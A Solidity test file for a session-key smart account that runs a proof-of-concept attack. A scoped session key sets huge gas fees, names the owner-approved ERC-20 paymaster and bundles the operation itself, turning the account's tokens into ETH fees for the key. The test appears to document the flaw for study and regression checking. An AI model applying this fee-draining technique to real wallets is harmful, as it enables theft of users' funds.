// SPDX-License-Identifier: MIT
pragma solidity ^0.8.29;

import {vm} from "./utils/Vm.sol";
import {UserOpBase} from "./utils/UserOpBase.sol";
import {Call, SessionLib} from "../types/Types.sol";
import {IMinimalAccount} from "../interfaces/IMinimalAccount.sol";
import {SessionAccount} from "../SessionAccount.sol";
import {TokenPaymaster} from "../fixtures/TokenPaymaster.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {PackedUserOperation} from "@account-abstraction/contracts/interfaces/PackedUserOperation.sol";

/// @notice "The account never pays gas for a scoped session key", for every asset: an ERC-20
///         paymaster that the owner approved (to pay its own gas in tokens) charges the account
///         in tokens for whatever op validates with it. Run on both deployments.
abstract contract PaymasterScenarios is UserOpBase {
    TokenPaymaster internal tokenPaymaster;
    address internal attacker;

    uint256 internal constant FEE = 1000 gwei;
    uint256 internal constant PM_VERIFICATION_GAS = 100_000;
    uint256 internal constant PM_POST_OP_GAS = 50_000;

    function setUp() public virtual override {
        super.setUp();
        tokenPaymaster = new TokenPaymaster(IERC20(address(token)));
        tokenPaymaster.deposit{value: 50 ether}();
        attacker = vm.addr(0xBAD);
    }

    /// @dev The owner approves the ERC-20 paymaster, to pay its own gas in tokens.
    function _ownerApprovesPaymaster() internal {
        _execOwner(_one(address(token), 0, abi.encodeCall(token.approve, (address(tokenPaymaster), type(uint256).max))));
    }

    function _tokenPaymasterAndData() internal view returns (bytes memory) {
        return abi.encodePacked(address(tokenPaymaster), uint128(PM_VERIFICATION_GAS), uint128(PM_POST_OP_GAS));
    }

    /// @dev The session key's op naming the ERC-20 paymaster, with a huge preVerificationGas and
    ///      fees, running `calls`.
    function _feeOp(Call[] memory calls) internal view returns (PackedUserOperation memory op) {
        op = _opBy(SESSION_PK, calls);
        op.preVerificationGas = 5_000_000;
        op.gasFees = bytes32((FEE << 128) | FEE);
        op.paymasterAndData = _tokenPaymasterAndData();
        _sign(SESSION_PK, op);
    }

    /// @dev Submits `op` with the session key as its own bundler and beneficiary.
    function _bundleAsKey(PackedUserOperation memory op) internal {
        vm.prank(sessionSigner, sessionSigner);
        ENTRY_POINT.handleOps(_ops(op), payable(sessionSigner));
    }

    /// @dev The attack: the scoped key signs an op with huge fees naming the owner's ERC-20
    ///      paymaster and bundles it itself: the paymaster charges the account's tokens and the
    ///      key, as beneficiary, receives the fees in ETH: about 5e18 token units per op, even
    ///      for an op whose call the policy refuses.
    function test_erc20Paymaster_scopedKeyTurnsTokensIntoGasFees() public {
        _grant(_transferSession());
        _ownerApprovesPaymaster();
        uint256 tokens = token.balanceOf(_acc());
        uint256 keyEth = sessionSigner.balance;

        // The call is one the policy refuses (a transfer to the attacker): the op reverts in
        // execution, and is paid for all the same.
        _bundleAsKey(_feeOp(_one(address(token), 0, _transferData(attacker, 1 ether))));

        uint256 lost = tokens - token.balanceOf(_acc());
        uint256 gained = sessionSigner.balance - keyEth;
        emit log_named_uint("tokens the account lost", lost);
        emit log_named_uint("ETH the session key gained", gained);
        vm.assertEq(token.balanceOf(attacker), 0, "the call itself was refused");
        vm.assertGt(lost, 5e18, "about 5e18 token units per op");
        // The paymaster charges the gas up to its postOp; the fees include postOp itself.
        vm.assertGe(gained, lost, "the key gained it in ETH (rate 1 token unit per wei)");
    }
}

contract Paymaster7702Test is PaymasterScenarios {}

contract PaymasterStandaloneTest is PaymasterScenarios {
    function setUp() public override {
        super.setUp();
        _useStandaloneAccount();
    }
}
